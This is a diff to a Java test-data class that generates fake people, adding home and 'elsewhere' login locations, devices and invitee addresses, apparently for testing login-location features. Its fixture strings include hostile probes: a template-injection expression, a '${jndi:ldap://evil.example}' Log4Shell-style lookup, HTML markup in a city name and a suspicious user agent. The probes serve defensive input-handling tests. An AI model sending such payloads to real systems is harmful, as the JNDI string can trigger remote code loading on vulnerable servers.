@@ -52,6 +52,22 @@ final class People {
                     "{{ 7 * 7 }} ${jndi:ldap://evil.example}",
                     "Wolfeschlegelsteinhausenbergerdorff".repeat(4));
 
+    /** Where people are who have an account. */
+    private static final List<Place> HOMES =
+            List.of(
+                    new Place("FR", "Lyon", "Firefox on Linux"),
+                    new Place("FR", "Saint-Étienne", "Edge on Windows"),
+                    new Place("DE", "Köln", "Chrome on macOS"),
+                    new Place("CA", "Montréal", "Safari on iPhone"));
+
+    /** Where they are not. */
+    private static final List<Place> ELSEWHERE =
+            List.of(
+                    new Place("BR", "São Paulo", "Chrome on Android"),
+                    new Place("VN", "Hà Nội", "Opera on Windows"),
+                    new Place("ZA", "<b>Durban</b>", "curl/8.5 (https://evil.example)"),
+                    new Place("NZ", null, "Safari on iPad"));
+
     private final Random random;
     private final String domain;
     private final String prefix;
@@ -95,6 +111,22 @@ final class People {
         return "%s%s.oncall@%s".formatted(prefix, number, domain);
     }
 
+    /** An address of somebody who is invited. */
+    String invitee() {
+        number++;
+        return "%s%s.invited@%s".formatted(prefix, number, domain);
+    }
+
+    /** Where somebody logs in from, always the same. */
+    Place home(Person person) {
+        return HOMES.get(Math.floorMod(person.id().hashCode(), HOMES.size()));
+    }
+
+    /** Where nobody is at home. */
+    Place away() {
+        return pick(ELSEWHERE);
+    }
+
     String projectName() {
         return random.nextInt(25) == 0 ? pick(HOSTILE_NAMES) : pick(PROJECTS);
     }
@@ -121,5 +153,14 @@ final class People {
 
     /** Somebody with an account. Fields may be null where the product's columns may. */
     record Person(
-            UUID id, String name, String firstName, String email, String locale, String timezone) {}
+            UUID id, String name, String firstName, String email, String locale, String timezone) {
+
+        /** The same person, somewhere else. */
+        Person in(String zone) {
+            return new Person(id, name, firstName, email, locale, zone);
+        }
+    }
+
+    /** Where a login comes from. Fields may be null where the product's columns may. */
+    record Place(String country, String city, String device) {}
 }
